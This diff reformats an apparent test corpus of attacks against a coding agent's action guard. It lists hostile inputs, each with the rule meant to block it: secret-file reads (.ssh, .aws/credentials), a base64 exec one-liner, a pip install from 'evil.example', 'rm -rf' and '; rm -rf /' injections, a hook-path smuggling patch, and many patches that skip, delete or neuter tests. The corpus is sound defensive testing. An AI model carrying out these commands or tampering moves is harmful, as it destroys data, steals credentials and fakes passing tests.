@@ -100,9 +100,15 @@ PROTECTED_EDITS = {
     "woodpecker": ".woodpecker/ci.yml",
     "husky_hook": ".husky/pre-commit",
 }
-SECRET_READS = {"dotenv": ".env", "ssh_key": "home/id_rsa", "pem": "deploy/server.pem",
-                "ssh_dir": ".ssh/config", "git_credentials": ".git-credentials",
-                "aws_credentials": ".aws/credentials", "gnupg": ".gnupg/private-keys-v1.d/x.key"}
+SECRET_READS = {
+    "dotenv": ".env",
+    "ssh_key": "home/id_rsa",
+    "pem": "deploy/server.pem",
+    "ssh_dir": ".ssh/config",
+    "git_credentials": ".git-credentials",
+    "aws_credentials": ".aws/credentials",
+    "gnupg": ".gnupg/private-keys-v1.d/x.key",
+}
 
 
 class Attack(NamedTuple):
@@ -116,8 +122,10 @@ class Attack(NamedTuple):
 
 def new_file(path: str, lines: list[str], mode: str = "100644") -> str:
     body = "".join(f"+{line}\n" for line in lines)
-    return (f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
-            f"@@ -0,0 +1,{len(lines)} @@\n{body}")
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
+        f"@@ -0,0 +1,{len(lines)} @@\n{body}"
+    )
 
 
 def modify(path: str, old: str, new: str) -> str:
@@ -141,25 +149,48 @@ def _path_attacks() -> list[Attack]:
     out = []
     for name, path in {**PATH_ESCAPES, **GIT_INTERNALS}.items():
         out.append(Attack(f"read_file_{name}", "localize", {"intent": "read_file", "path": path}, ESCAPE))
-        out.append(Attack(f"search_{name}", "localize",
-                          {"intent": "search", "pattern": "secret", "path": path}, ESCAPE))
+        out.append(
+            Attack(f"search_{name}", "localize", {"intent": "search", "pattern": "secret", "path": path}, ESCAPE)
+        )
         out.append(Attack(f"list_dir_{name}", "localize", {"intent": "list_dir", "path": path}, ESCAPE))
-        out.append(Attack(f"edit_replace_{name}", "patch",
-                          {"intent": "edit", "path": path, "old": "a", "new": "b"}, ESCAPE))
-        out.append(Attack(f"edit_patch_new_file_{name}", "patch",
-                          {"intent": "edit", "patch": new_file(path, ["pwned"])}, ESCAPE))
+        out.append(
+            Attack(f"edit_replace_{name}", "patch", {"intent": "edit", "path": path, "old": "a", "new": "b"}, ESCAPE)
+        )
+        out.append(
+            Attack(
+                f"edit_patch_new_file_{name}", "patch", {"intent": "edit", "patch": new_file(path, ["pwned"])}, ESCAPE
+            )
+        )
     for name, path in PROTECTED_EDITS.items():
-        out.append(Attack(f"edit_protected_{name}", "patch",
-                          {"intent": "edit", "patch": new_file(path, ["x"])}, ("protected_path",)))
+        out.append(
+            Attack(
+                f"edit_protected_{name}",
+                "patch",
+                {"intent": "edit", "patch": new_file(path, ["x"])},
+                ("protected_path",),
+            )
+        )
     for name, path in SECRET_READS.items():
-        out.append(Attack(f"read_secret_{name}", "localize", {"intent": "read_file", "path": path},
-                          ("protected_path",)))
+        out.append(
+            Attack(f"read_secret_{name}", "localize", {"intent": "read_file", "path": path}, ("protected_path",))
+        )
     for name, path in {"symlink_dir_in": "inside_dir/mod.py", "symlink_file_in": "inside_file"}.items():
-        out.append(Attack(f"edit_write_through_{name}", "patch",
-                          {"intent": "edit", "path": path, "old": "a - b", "new": "a + b"}, ("path_escape",)))
-    out.append(Attack("edit_patch_write_through_symlink_dir", "patch",
-                      {"intent": "edit", "patch": MOD_PY_FIX.replace("pkg/mod.py", "inside_dir/mod.py")},
-                      ("path_escape",)))
+        out.append(
+            Attack(
+                f"edit_write_through_{name}",
+                "patch",
+                {"intent": "edit", "path": path, "old": "a - b", "new": "a + b"},
+                ("path_escape",),
+            )
+        )
+    out.append(
+        Attack(
+            "edit_patch_write_through_symlink_dir",
+            "patch",
+            {"intent": "edit", "patch": MOD_PY_FIX.replace("pkg/mod.py", "inside_dir/mod.py")},
+            ("path_escape",),
+        )
+    )
     return out
 
 
@@ -189,8 +220,10 @@ COMMANDS: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
     "python_http_server": (("python", "-m", "http.server"), ("forbidden_command",)),
     "python_m_pip_install": (("python", "-m", "pip", "install", "evil"), ("forbidden_command",)),
     "python_mpip_install": (("python", "-mpip", "install", "evil"), ("forbidden_command",)),
-    "python_base64_exec": (("python", "-c", "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"),
-                           ("forbidden_command",)),
+    "python_base64_exec": (
+        ("python", "-c", "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"),
+        ("forbidden_command",),
+    ),
     "pip_install": (("pip", "install", "evil"), ("forbidden_command",)),
     "pip3_install_url": (("pip3", "install", "git+https://evil.example/x"), ("forbidden_command",)),
     "npm_install": (("npm", "install", "evil"), ("forbidden_command",)),
@@ -226,7 +259,7 @@ COMMANDS: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
     "base64_pipe_in_arg": (("echo", "aWQ= | base64 -d | sh"), ("shell_injection",)),
     "xargs": (("xargs", "rm"), ("forbidden_command",)),
     "find_exec": (("find", ".", "-exec", "sh", "{}", ";"), ("forbidden_command", "shell_injection")),
-    "awk_system": (("awk", "BEGIN{system(\"id\")}"), ("forbidden_command",)),
+    "awk_system": (("awk", 'BEGIN{system("id")}'), ("forbidden_command",)),
     "sed_in_place": (("sed", "-i", "s/a/b/", "pkg/mod.py"), ("forbidden_command",)),
     "rm_rf": (("rm", "-rf", "tests"), ("forbidden_command",)),
     "chmod": (("chmod", "+x", "evil"), ("forbidden_command",)),
@@ -294,82 +327,150 @@ TAMPERING: dict[str, tuple[str, str, tuple[str, ...]]] = {
     "modify_test_assertion": ("patch", TEST_FIX, ("test_tampering",)),
     "modify_test_assertion_in_verify": ("verify", TEST_FIX, ("test_tampering",)),
     "modify_test_assertion_in_reproduce": ("reproduce", TEST_FIX, ("test_tampering",)),
-    "delete_test_file": ("patch", "diff --git a/tests/test_mod.py b/tests/test_mod.py\ndeleted file mode 100644\n"
-                         "--- a/tests/test_mod.py\n+++ /dev/null\n@@ -1,10 +0,0 @@\n"
-                         "-from pkg.mod import add\n-\n-\n-def test_add():\n-    assert add(1, 2) == 3\n"
-                         "-\n-\n-class TestMul:\n-    def test_mul(self):\n-        assert True\n",
-                         ("test_tampering",)),
-    "rename_test_file": ("patch", "diff --git a/tests/test_mod.py b/tests/mod_checks.txt\nsimilarity index 100%\n"
-                         "rename from tests/test_mod.py\nrename to tests/mod_checks.txt\n", ("test_tampering",)),
-    "rename_test_file_in_reproduce": ("reproduce", "diff --git a/tests/test_mod.py b/tests/off.py\n"
-                                      "similarity index 100%\nrename from tests/test_mod.py\n"
-                                      "rename to tests/off.py\n", ("test_tampering",)),
-    "new_conftest_root": ("patch", new_file("conftest.py", ["def pytest_runtest_call(item):", "    pass"]),
-                          ("test_tampering",)),
-    "new_conftest_in_reproduce": ("reproduce", new_file("tests/conftest.py", ["import pytest"]),
-                                  ("test_tampering",)),
-    "new_pytest_ini": ("patch", new_file("pytest.ini", ["[pytest]", "addopts = -p no:python"]),
-                       ("test_tampering",)),
-    "pyproject_addopts": ("patch", modify("pyproject.toml", 'addopts = "-q"',
-                                          'addopts = "-q --deselect tests/test_mod.py::test_add"'),
-                          ("test_tampering",)),
-    "tox_ini_pytest_section": ("patch", modify("tox.ini", "testpaths = tests", "testpaths = docs"),
-                               ("test_tampering",)),
-    "setup_cfg_tool_pytest": ("patch", modify("setup.cfg", "testpaths = tests", "testpaths = pkg"),
-                              ("test_tampering",)),
-    "pytest_hook_in_source": ("patch", append("pkg/mod.py", ["", "def pytest_collection_modifyitems(items):",
-                                               "    items.clear()"]), ("test_tampering",)),
+    "delete_test_file": (
+        "patch",
+        "diff --git a/tests/test_mod.py b/tests/test_mod.py\ndeleted file mode 100644\n"
+        "--- a/tests/test_mod.py\n+++ /dev/null\n@@ -1,10 +0,0 @@\n"
+        "-from pkg.mod import add\n-\n-\n-def test_add():\n-    assert add(1, 2) == 3\n"
+        "-\n-\n-class TestMul:\n-    def test_mul(self):\n-        assert True\n",
+        ("test_tampering",),
+    ),
+    "rename_test_file": (
+        "patch",
+        "diff --git a/tests/test_mod.py b/tests/mod_checks.txt\nsimilarity index 100%\n"
+        "rename from tests/test_mod.py\nrename to tests/mod_checks.txt\n",
+        ("test_tampering",),
+    ),
+    "rename_test_file_in_reproduce": (
+        "reproduce",
+        "diff --git a/tests/test_mod.py b/tests/off.py\n"
+        "similarity index 100%\nrename from tests/test_mod.py\n"
+        "rename to tests/off.py\n",
+        ("test_tampering",),
+    ),
+    "new_conftest_root": (
+        "patch",
+        new_file("conftest.py", ["def pytest_runtest_call(item):", "    pass"]),
+        ("test_tampering",),
+    ),
+    "new_conftest_in_reproduce": ("reproduce", new_file("tests/conftest.py", ["import pytest"]), ("test_tampering",)),
+    "new_pytest_ini": ("patch", new_file("pytest.ini", ["[pytest]", "addopts = -p no:python"]), ("test_tampering",)),
+    "pyproject_addopts": (
+        "patch",
+        modify("pyproject.toml", 'addopts = "-q"', 'addopts = "-q --deselect tests/test_mod.py::test_add"'),
+        ("test_tampering",),
+    ),
+    "tox_ini_pytest_section": (
+        "patch",
+        modify("tox.ini", "testpaths = tests", "testpaths = docs"),
+        ("test_tampering",),
+    ),
+    "setup_cfg_tool_pytest": (
+        "patch",
+        modify("setup.cfg", "testpaths = tests", "testpaths = pkg"),
+        ("test_tampering",),
+    ),
+    "pytest_hook_in_source": (
+        "patch",
+        append("pkg/mod.py", ["", "def pytest_collection_modifyitems(items):", "    items.clear()"]),
+        ("test_tampering",),
+    ),
     "pytest_plugins_in_source": ("patch", append("pkg/mod.py", ['pytest_plugins = ["evil"]']), ("test_tampering",)),
-    "pytest_plugins_by_setattr_in_source": ("patch", append("pkg/mod.py", [
-        "import sys", "setattr(sys.modules[__name__], 'pytest_plugins', ['evil'])"]), ("test_tampering",)),
-    "pytest_hook_in_exec_string_in_source": ("patch", append("pkg/mod.py", [
-        "exec('def pytest_collection_modifyitems(items): items.clear()')"]), ("test_tampering",)),
-    "pytest_generate_tests_method_in_reproduce": ("reproduce", new_file("tests/test_new.py", [
-        "class TestNew:", "    def pytest_generate_tests(self, metafunc):", "        pass"]), ("test_tampering",)),
-    "pytest11_entry_point_in_setup_py": ("patch", new_file("setup.py", [
-        "from setuptools import setup", "setup(name='pkg', entry_points={'pytest11': ['e = pkg.mod']})"]),
-        ("test_tampering",)),
-    "pytestmark_skip_in_source": ("patch", append("pkg/mod.py", ["import pytest", "pytestmark = pytest.mark.skip"]),
-                                  ("test_tampering",)),
-    "pytest_skip_module_level_in_source": ("patch", append(
-        "pkg/mod.py", ["import pytest", "pytest.skip('x', allow_module_level=True)"]), ("test_tampering",)),
-    "os_exit_in_source": ("patch", append("pkg/mod.py", ["import os", "os._exit(0)"]),
-                          ("test_tampering",)),
-    "skip_marker_on_existing_test": ("patch", modify("tests/test_mod.py", "def test_add():",
-                                                     "@pytest.mark.skip\ndef test_add():"),
-                                     ("test_tampering",)),
-    "pytestmark_appended_to_test_file_in_reproduce": ("reproduce", append(
-        "tests/test_mod.py", ["import pytest", "pytestmark = pytest.mark.skip"]), ("test_tampering",)),
-    "shadow_existing_test_in_reproduce": ("reproduce", append(
-        "tests/test_mod.py", ["", "", "def test_add():", "    pass"]),
-        ("test_tampering",)),
-    "early_return_inserted_in_existing_test": ("reproduce", modify(
-        "tests/test_mod.py", "def test_add():", "def test_add():\n    return"), ("test_tampering",)),
-    "redefine_test_class_in_reproduce": ("reproduce", append(
-        "tests/test_mod.py", ["", "", "class TestMul:", "    def test_mul(self):", "        pass"]),
-        ("test_tampering",)),
+    "pytest_plugins_by_setattr_in_source": (
+        "patch",
+        append("pkg/mod.py", ["import sys", "setattr(sys.modules[__name__], 'pytest_plugins', ['evil'])"]),
+        ("test_tampering",),
+    ),
+    "pytest_hook_in_exec_string_in_source": (
+        "patch",
+        append("pkg/mod.py", ["exec('def pytest_collection_modifyitems(items): items.clear()')"]),
+        ("test_tampering",),
+    ),
+    "pytest_generate_tests_method_in_reproduce": (
+        "reproduce",
+        new_file(
+            "tests/test_new.py", ["class TestNew:", "    def pytest_generate_tests(self, metafunc):", "        pass"]
+        ),
+        ("test_tampering",),
+    ),
+    "pytest11_entry_point_in_setup_py": (
+        "patch",
+        new_file(
+            "setup.py",
+            ["from setuptools import setup", "setup(name='pkg', entry_points={'pytest11': ['e = pkg.mod']})"],
+        ),
+        ("test_tampering",),
+    ),
+    "pytestmark_skip_in_source": (
+        "patch",
+        append("pkg/mod.py", ["import pytest", "pytestmark = pytest.mark.skip"]),
+        ("test_tampering",),
+    ),
+    "pytest_skip_module_level_in_source": (
+        "patch",
+        append("pkg/mod.py", ["import pytest", "pytest.skip('x', allow_module_level=True)"]),
+        ("test_tampering",),
+    ),
+    "os_exit_in_source": ("patch", append("pkg/mod.py", ["import os", "os._exit(0)"]), ("test_tampering",)),
+    "skip_marker_on_existing_test": (
+        "patch",
+        modify("tests/test_mod.py", "def test_add():", "@pytest.mark.skip\ndef test_add():"),
+        ("test_tampering",),
+    ),
+    "pytestmark_appended_to_test_file_in_reproduce": (
+        "reproduce",
+        append("tests/test_mod.py", ["import pytest", "pytestmark = pytest.mark.skip"]),
+        ("test_tampering",),
+    ),
+    "shadow_existing_test_in_reproduce": (
+        "reproduce",
+        append("tests/test_mod.py", ["", "", "def test_add():", "    pass"]),
+        ("test_tampering",),
+    ),
+    "early_return_inserted_in_existing_test": (
+        "reproduce",
+        modify("tests/test_mod.py", "def test_add():", "def test_add():\n    return"),
+        ("test_tampering",),
+    ),
+    "redefine_test_class_in_reproduce": (
+        "reproduce",
+        append("tests/test_mod.py", ["", "", "class TestMul:", "    def test_mul(self):", "        pass"]),
+        ("test_tampering",),
+    ),
     "source_edit_in_reproduce": ("reproduce", MOD_PY_FIX, ("phase_violation",)),
     "edit_in_localize": ("localize", MOD_PY_FIX, ("phase_violation",)),
-    "js_test_modified": ("patch", modify("web/app.test.js",
-                                         "test('adds', () => { expect(add(1, 2)).toBe(3); });",
-                                         "test('adds', () => {});"), ("test_tampering",)),
-    "js_test_only_in_reproduce": ("reproduce", new_file("web/only.test.js", ["test.only('x', () => {});"]),
-                                  ("test_tampering",)),
+    "js_test_modified": (
+        "patch",
+        modify("web/app.test.js", "test('adds', () => { expect(add(1, 2)).toBe(3); });", "test('adds', () => {});"),
+        ("test_tampering",),
+    ),
+    "js_test_only_in_reproduce": (
+        "reproduce",
+        new_file("web/only.test.js", ["test.only('x', () => {});"]),
+        ("test_tampering",),
+    ),
     "rust_test_region_modified": ("patch", RS_TEST, ("test_tampering",)),
-    "rust_ignore_attribute": ("patch", modify("src/lib.rs", "    #[test]", "    #[test]\n    #[ignore]"),
-                              ("test_tampering",)),
-    "rust_code_in_reproduce": ("reproduce", modify("src/lib.rs", "    a - b", "    a + b"),
-                               ("phase_violation",)),
+    "rust_ignore_attribute": (
+        "patch",
+        modify("src/lib.rs", "    #[test]", "    #[test]\n    #[ignore]"),
+        ("test_tampering",),
+    ),
+    "rust_code_in_reproduce": ("reproduce", modify("src/lib.rs", "    a - b", "    a + b"), ("phase_violation",)),
     "go_new_test_file_in_patch": ("patch", new_file("pkg/x_test.go", ["package pkg"]), ("test_tampering",)),
-    "junit_disabled_in_reproduce": ("reproduce", new_file("src/test/java/FooTest.java", [
-        "class FooTest { @Disabled void t() {} }"]), ("test_tampering",)),
+    "junit_disabled_in_reproduce": (
+        "reproduce",
+        new_file("src/test/java/FooTest.java", ["class FooTest { @Disabled void t() {} }"]),
+        ("test_tampering",),
+    ),
     "spec_ts_modified": ("patch", new_file("web/app.spec.ts", ["it('x', () => {});"]), ("test_tampering",)),
 }
 
 
 def _tampering_attacks() -> list[Attack]:
-    return [Attack(f"edit_{name}", phase, {"intent": "edit", "patch": patch}, rules, buildpack="generic")
-            for name, (phase, patch, rules) in TAMPERING.items()]
+    return [
+        Attack(f"edit_{name}", phase, {"intent": "edit", "patch": patch}, rules, buildpack="generic")
+        for name, (phase, patch, rules) in TAMPERING.items()
+    ]
 
 
 SECRETS = {
@@ -388,37 +489,60 @@ def _patch_attacks() -> list[Attack]:
     many_files = "".join(new_file(f"pkg/gen_{i}.py", ["x = 1"]) for i in range(12))
     huge = new_file("pkg/huge.py", [f"x{i} = {i}" for i in range(600)])
     out = [
-        Attack(f"edit_secret_{name}", "patch", {"intent": "edit", "patch": append(
-            "pkg/mod.py", [f"KEY = '{secret}'"])}, ("secret_in_patch",))
+        Attack(
+            f"edit_secret_{name}",
+            "patch",
+            {"intent": "edit", "patch": append("pkg/mod.py", [f"KEY = '{secret}'"])},
+            ("secret_in_patch",),
+        )
         for name, secret in SECRETS.items()
     ]
     cases: dict[str, tuple[str, tuple[str, ...]]] = {
-        "git_binary_patch": ("diff --git a/pkg/x.bin b/pkg/x.bin\nnew file mode 100644\nindex 0000000..1111111\n"
-                             "GIT binary patch\nliteral 4\nLcmZ?l\n\nliteral 0\nHcmV?d00001\n",
-                             ("patch_malformed",)),
-        "binary_files_differ": ("diff --git a/pkg/x.bin b/pkg/x.bin\nindex 1..2 100644\n"
-                                "Binary files a/pkg/x.bin and b/pkg/x.bin differ\n", ("patch_malformed",)),
+        "git_binary_patch": (
+            "diff --git a/pkg/x.bin b/pkg/x.bin\nnew file mode 100644\nindex 0000000..1111111\n"
+            "GIT binary patch\nliteral 4\nLcmZ?l\n\nliteral 0\nHcmV?d00001\n",
+            ("patch_malformed",),
+        ),
+        "binary_files_differ": (
+            "diff --git a/pkg/x.bin b/pkg/x.bin\nindex 1..2 100644\nBinary files a/pkg/x.bin and b/pkg/x.bin differ\n",
+            ("patch_malformed",),
+        ),
         "new_executable_file": (new_file("pkg/run.py", ["import os"], mode="100755"), ("patch_malformed",)),
-        "mode_change_to_executable": ("diff --git a/pkg/mod.py b/pkg/mod.py\nold mode 100644\nnew mode 100755\n",
-                                      ("patch_malformed",)),
+        "mode_change_to_executable": (
+            "diff --git a/pkg/mod.py b/pkg/mod.py\nold mode 100644\nnew mode 100755\n",
+            ("patch_malformed",),
+        ),
         "new_symlink_out": (new_file("pkg/link", ["/etc/passwd"], mode="120000"), ("path_escape",)),
         "new_symlink_in": (new_file("pkg/link2", ["mod.py"], mode="120000"), ("path_escape",)),
         "preamble_text": ("Here is the fix:\n" + MOD_PY_FIX, ("patch_malformed",)),
         "not_a_diff": ("rm -rf /", ("patch_malformed",)),
         "hunk_count_lies": (MOD_PY_FIX.replace("@@ -1,5 +1,5 @@", "@@ -1,5 +1,7 @@"), ("patch_malformed",)),
-        "quoted_path": ('diff --git "a/pkg/mod.py" "b/pkg/mod.py"\n--- "a/pkg/mod.py"\n+++ "b/pkg/mod.py"\n'
-                        "@@ -2 +2 @@\n-    return a - b\n+    return a + b\n", ("patch_malformed",)),
-        "header_mismatch_smuggles_path": (MOD_PY_FIX.replace("+++ b/pkg/mod.py", "+++ b/.git/hooks/pre-commit"),
-                                          ("patch_malformed", "protected_path")),
-        "plain_diff_renames": (MOD_PY_FIX.split("\n", 1)[1].replace("+++ b/pkg/mod.py", "+++ b/pkg/evil.py"),
-                               ("patch_malformed",)),
+        "quoted_path": (
+            'diff --git "a/pkg/mod.py" "b/pkg/mod.py"\n--- "a/pkg/mod.py"\n+++ "b/pkg/mod.py"\n'
+            "@@ -2 +2 @@\n-    return a - b\n+    return a + b\n",
+            ("patch_malformed",),
+        ),
+        "header_mismatch_smuggles_path": (
+            MOD_PY_FIX.replace("+++ b/pkg/mod.py", "+++ b/.git/hooks/pre-commit"),
+            ("patch_malformed", "protected_path"),
+        ),
+        "plain_diff_renames": (
+            MOD_PY_FIX.split("\n", 1)[1].replace("+++ b/pkg/mod.py", "+++ b/pkg/evil.py"),
+            ("patch_malformed",),
+        ),
         "duplicate_file_sections": (MOD_PY_FIX + MOD_PY_FIX, ("patch_malformed",)),
-        "copy_headers": ("diff --git a/pkg/mod.py b/.git/hooks/pre-commit\nsimilarity index 100%\n"
-                         "copy from pkg/mod.py\ncopy to .git/hooks/pre-commit\n", ("patch_malformed",)),
+        "copy_headers": (
+            "diff --git a/pkg/mod.py b/.git/hooks/pre-commit\nsimilarity index 100%\n"
+            "copy from pkg/mod.py\ncopy to .git/hooks/pre-commit\n",
+            ("patch_malformed",),
+        ),
         "no_prefix_paths": (MOD_PY_FIX.replace("a/pkg", "pkg").replace("b/pkg", "pkg"), ("patch_malformed",)),
-        "wrong_context": (modify("pkg/mod.py", "    return a - b", "    return a + b")
-                          .replace("-    return a - b", "-    return a / b"),
-                          ("patch_does_not_apply",)),
+        "wrong_context": (
+            modify("pkg/mod.py", "    return a - b", "    return a + b").replace(
+                "-    return a - b", "-    return a / b"
+            ),
+            ("patch_does_not_apply",),
+        ),
         "new_file_over_existing": (new_file("pkg/mod.py", ["x = 1"]), ("patch_does_not_apply",)),
         "modify_missing_file": (MOD_PY_FIX.replace("pkg/mod.py", "pkg/nope.py"), ("patch_does_not_apply",)),
         "too_many_files": (many_files, ("patch_too_large",)),
@@ -433,13 +557,14 @@ def _patch_attacks() -> list[Attack]:
         out.append(Attack(f"edit_{name}", "patch", {"intent": "edit", "patch": patch}, rules))
     replacements = {
         "replace_old_missing": ({"path": "pkg/mod.py", "old": "return a / b", "new": "x"}, "patch_does_not_apply"),
-        "replace_old_ambiguous": ({"path": "pkg/mod.py", "old": "return a", "new": "return 0"},
-                                  "patch_does_not_apply"),
+        "replace_old_ambiguous": ({"path": "pkg/mod.py", "old": "return a", "new": "return 0"}, "patch_does_not_apply"),
         "replace_old_empty": ({"path": "pkg/mod.py", "old": "", "new": "import os\n"}, "patch_malformed"),
         "replace_creates_syntax_error": ({"path": "pkg/mod.py", "old": "a - b", "new": "a -"}, "syntax_error"),
         "replace_in_test_file": ({"path": "tests/test_mod.py", "old": "== 3", "new": "!= 3"}, "test_tampering"),
-        "replace_adds_secret": ({"path": "pkg/mod.py", "old": "a * b", "new": "a * b  # AKIAIOSFODNN7EXAMPLE"},
-                                "secret_in_patch"),
+        "replace_adds_secret": (
+            {"path": "pkg/mod.py", "old": "a * b", "new": "a * b  # AKIAIOSFODNN7EXAMPLE"},
+            "secret_in_patch",
+        ),
         "replace_in_missing_file": ({"path": "pkg/none.py", "old": "a", "new": "b"}, "patch_does_not_apply"),
     }
     for name, (fields, rule) in replacements.items():
@@ -449,11 +574,17 @@ def _patch_attacks() -> list[Attack]:
 
 def _other_attacks() -> list[Attack]:
     search = {
-        "unbalanced_paren": "(", "unterminated_class": "[a-", "bad_repeat": "a{2,1}",
-        "nothing_to_repeat": "*", "bad_group_name": "(?P<x", "trailing_backslash": "\\",
+        "unbalanced_paren": "(",
+        "unterminated_class": "[a-",
+        "bad_repeat": "a{2,1}",
+        "nothing_to_repeat": "*",
+        "bad_group_name": "(?P<x",
+        "trailing_backslash": "\\",
     }
-    out = [Attack(f"search_bad_regex_{name}", "localize", {"intent": "search", "pattern": p},
-                  ("bad_pattern",)) for name, p in search.items()]
+    out = [
+        Attack(f"search_bad_regex_{name}", "localize", {"intent": "search", "pattern": p}, ("bad_pattern",))
+        for name, p in search.items()
+    ]
     test_ids = {
         "option_injection": ("--rootdir=/", ("shell_injection",)),
         "plugin_option": ("-pevil", ("shell_injection",)),
@@ -463,23 +594,36 @@ def _other_attacks() -> list[Attack]:
         "semicolon": ("tests/test_mod.py; rm -rf /", ("shell_injection",)),
         "newline": ("tests/test_mod.py\n--rootdir=/", ("shell_injection",)),
     }
-    out += [Attack(f"run_tests_{name}", "localize", {"intent": "run_tests", "tests": [t]}, rules)
-            for name, (t, rules) in test_ids.items()]
+    out += [
+        Attack(f"run_tests_{name}", "localize", {"intent": "run_tests", "tests": [t]}, rules)
+        for name, (t, rules) in test_ids.items()
+    ]
     budgets = {
         "steps": {"steps_used": 50, "steps_max": 50},
         "seconds": {"seconds_used": 3600.5, "seconds_max": 3600},
         "cost": {"cost_used": 2.0, "cost_max": 1.5},
         "tokens": {"tokens_used": 10, "tokens_max": 1},
     }
-    out += [Attack(f"budget_exhausted_{name}", "patch", {"intent": "run_tests"}, ("budget_exhausted",), ctx)
-            for name, ctx in budgets.items()]
     out += [
-        Attack("finish_in_patch_without_giving_up", "patch", {"intent": "finish", "reason": "done"},
-               ("phase_violation",)),
-        Attack("finish_in_reproduce_claiming_success", "reproduce", {"intent": "finish", "reason": "fixed"},
-               ("phase_violation",)),
-        Attack("proposal_claims_another_phase", "localize",
-               {"intent": "edit", "phase": "patch", "patch": MOD_PY_FIX}, ("phase_violation",)),
+        Attack(f"budget_exhausted_{name}", "patch", {"intent": "run_tests"}, ("budget_exhausted",), ctx)
+        for name, ctx in budgets.items()
+    ]
+    out += [
+        Attack(
+            "finish_in_patch_without_giving_up", "patch", {"intent": "finish", "reason": "done"}, ("phase_violation",)
+        ),
+        Attack(
+            "finish_in_reproduce_claiming_success",
+            "reproduce",
+            {"intent": "finish", "reason": "fixed"},
+            ("phase_violation",),
+        ),
+        Attack(
+            "proposal_claims_another_phase",
+            "localize",
+            {"intent": "edit", "phase": "patch", "patch": MOD_PY_FIX},
+            ("phase_violation",),
+        ),
     ]
     return out
 
